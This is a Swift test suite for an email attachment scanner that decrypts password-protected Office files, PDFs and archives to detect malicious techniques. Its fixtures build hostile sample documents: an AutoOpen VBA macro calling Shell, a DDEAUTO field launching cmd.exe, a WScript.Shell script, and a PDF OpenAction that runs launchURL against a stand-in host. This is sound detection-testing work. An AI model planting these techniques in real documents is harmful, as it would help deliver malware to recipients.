import MailModel
import MailTestSupport
import Testing

@testable import AttachmentInspection

@Suite struct PasswordTests {
  private func ids(_ verdict: AttachmentVerdict) -> Set<String> { Set(verdict.techniques.map(\.id)) }

  @Test(arguments: ["SHA1", "SHA256", "SHA384", "SHA512"])
  func agilePackagesOpen(hash: String) {
    let package = PackageBuilder.package(
      main: "word/document.xml", type: PackageBuilder.wordType,
      rels: [("r1", "attachedTemplate", "https://x.example/t.dotm", "External")],
      parts: [("word/vbaProject.bin", VBABuilder.project([("M", "Sub AutoOpen()\r\nShell \"x\"\r\nEnd Sub\r\n")]))])
    let sealed = EncryptedDocuments.agile(package, password: "U523", hash: hash)
    let verdict = AttachmentInspector().inspect(sealed, passwords: ["U523"])
    #expect(verdict.type == .oleOther)
    #expect(verdict.encrypted)
    #expect(verdict.vba?.modules.map(\.name) == ["M"])
    #expect(ids(verdict).isSuperset(of: ["remote-template", "vba-autoexec-process", "opens-with-mail-password"]))
    #expect(AttachmentInspector().inspect(sealed, passwords: ["other"]).vba == nil)
  }

  @Test func standardPackagesOpen() {
    let package = PackageBuilder.package(
      main: "word/document.xml", type: PackageBuilder.wordType,
      rels: [("r1", "attachedTemplate", "https://x.example/t.dotm", "External")])
    let sealed = EncryptedDocuments.standard(package, password: "U523")
    #expect(
      ids(AttachmentInspector().inspect(sealed, passwords: ["U523"]))
        .isSuperset(of: ["remote-template", "opens-with-mail-password"]))
    #expect(!ids(AttachmentInspector().inspect(sealed, passwords: ["U524"])).contains("remote-template"))
  }

  @Test func aPDFOpensWithTheEmptyPasswordAndWithOneOfTheMail() {
    #expect(ids(AttachmentInspector().inspect(EncryptedDocuments.pdf(password: ""))).contains("pdf-launch"))
    let sealed = EncryptedDocuments.pdf(password: "U523")
    #expect(!ids(AttachmentInspector().inspect(sealed)).contains("pdf-launch"))
    #expect(
      ids(AttachmentInspector().inspect(sealed, passwords: ["U523"]))
        .isSuperset(of: ["pdf-launch", "opens-with-mail-password"]))
  }

  @Test func whatAnArchiveHidesBehindAPasswordIsInspected() {
    let sealed = Samples.encryptedZip(
      "a.js", Array("x = new ActiveXObject('WScript.Shell'); WScript.Echo('powershell')".utf8), password: "U523")
    let verdict = AttachmentInspector().inspect(sealed, passwords: ["0000", "U523"])
    #expect(verdict.encrypted)
    #expect(verdict.children.first?.digest != nil)
    #expect(verdict.level == .critical)
  }

  /// What msoffcrypto-tool computes of the same passwords.
  @Test func theKeysOfObfuscation() {
    #expect(XORObfuscation.key(of: Array("VelvetSweatshop".utf8)) == 0xB359)
    #expect(XORObfuscation.key(of: Array("abc".utf8)) == 0x514A)
    #expect(
      XORObfuscation.array(of: Array("abc".utf8), key: 0x514A)
        == [149, 153, 148, 117, 218, 87, 120, 87, 218, 116, 101, 168, 122, 47, 37, 119])
  }

  /// A document whose text says that a field starts a program, obfuscated as Word does it.
  private func obfuscatedDocument(_ password: String) -> [UInt8] {
    let bytes = Array(password.utf8)
    let key = XORObfuscation.key(of: bytes)
    let array = XORObfuscation.array(of: bytes, key: key)
    var stream: [UInt8] = [0xEC, 0xA5, 0xC1, 0, 0, 0, 0, 0, 0, 0, 0x00, 0x81, 0, 0]
    stream.append(u16: XORObfuscation.verifier(of: bytes))
    stream.append(u16: key)
    stream += [UInt8](repeating: 0, count: 68 - stream.count)
    stream += Array(
      "Hello \u{13}DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"\u{14}x\u{15} http://x.example/a ".utf8)
    stream += [UInt8](repeating: 0, count: 5_000)
    for place in 68..<stream.count {
      let mixed = stream[place] ^ array[place & 15]
      if stream[place] != 0, mixed != 0 { stream[place] = mixed }
    }
    return CompoundFileBuilder([("WordDocument", stream), ("1Table", [1, 2, 3])]).build()
  }

  @Test(arguments: [
    ("VelvetSweatshop", [String](), false), ("1234", [], true), ("U523", ["U523"], true), ("U523", [], false),
  ])
  func anObfuscatedWordDocumentIsOpened(password: String, given: [String], opens: Bool) {
    let verdict = AttachmentInspector().inspect(obfuscatedDocument(password), passwords: given)
    #expect(verdict.encrypted)
    #expect(verdict.type == .oleDoc)
    let opened = ids(verdict).contains("dde-command")
    #expect(opened == (opens || password == "VelvetSweatshop"), "\(ids(verdict))")
    #expect(verdict.urls == (opened ? ["http://x.example/a"] : []))
  }

  /// Revision 5 (Acrobat 9): one SHA-256 with the salts of the user string, the key in `UE`.
  private func pdf(revision5 password: String) -> [UInt8] {
    let key = (0..<32).map { UInt8($0 &* 7 &+ 1) }
    let (validation, salt) = ([UInt8](1...8), [UInt8](11...18))
    let word = Array(password.utf8)
    let user = KeyHash.sha256.digest(of: word + validation) + validation + salt
    let zero = [UInt8](repeating: 0, count: 16)
    let sealed = AESCipher.encryptCBC(key, key: KeyHash.sha256.digest(of: word + salt), vector: zero) ?? []
    let script = Array("app.launchURL('https://x.example/a');this.exportDataObject({nLaunch:2});".utf8)
    let pad = 16 - script.count % 16
    let text =
      zero + (AESCipher.encryptCBC(script + [UInt8](repeating: UInt8(pad), count: pad), key: key, vector: zero) ?? [])
    func hex(_ bytes: [UInt8]) -> String { bytes.map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined() }
    return Array(
      """
      %PDF-1.7
      1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS<\(hex(text))>>>>>endobj
      2 0 obj<</Filter/Standard/V 5/R 5/Length 256/P -1/O<\(hex(user))>/U<\(hex(user))>/UE<\(hex(sealed))>
      /CF<</StdCF<</CFM/AESV3/Length 32>>>>/StmF/StdCF/StrF/StdCF>>endobj
      trailer<</Root 1 0 R/Encrypt 2 0 R>>
      """.utf8)
  }

  @Test(arguments: [("", [String](), true), ("U523", ["U523"], true), ("U523", [], false), ("infected", [], true)])
  func aPDFOfRevisionFiveIsOpened(password: String, given: [String], opens: Bool) {
    let verdict = AttachmentInspector().inspect(pdf(revision5: password), passwords: given)
    #expect(verdict.encrypted)
    #expect(ids(verdict).contains("pdf-script-acts") == opens)
    #expect(verdict.urls == (opens ? ["https://x.example/a"] : []))
  }

  @Test func passwordsCostNoMoreThanTheLimit() {
    var limits = InspectionLimits()
    limits.passwordHashes = 10
    limits.hashesForEachPassword = 0
    let sealed = EncryptedDocuments.agile([0x50, 0x4B], password: "U523")
    let verdict = AttachmentInspector(limits: limits).inspect(sealed, passwords: ["U523"])
    #expect(verdict.limitsHit.contains("password-hashes"))
  }

  @Test(arguments: [
    ("Invoice", "Please see attached. Password: U523\nThanks", "U523"),
    ("Re: offer", "Das Passwort lautet Sommer2021.", "Sommer2021"),
    ("docs", "zip pw - \"kfe82\"", "kfe82"), ("Archive pass 7H1", "see below", "7H1"),
    ("x", "mot de passe : abc-123", "abc-123"), ("x", "Пароль: 4455", "4455"), ("x", "PASSWORD:XYZ1", "XYZ1"),
  ])
  func findsThePasswordInAMail(subject: String, text: String, password: String) {
    #expect(PasswordCandidates.candidates(subject: subject, text: text).contains(password))
  }

  @Test func candidatesAreFew() {
    let text = (0..<5_000).map { "password word\($0)" }.joined(separator: " ")
    #expect(PasswordCandidates.candidates(subject: "", text: text).count == 32)
  }
}
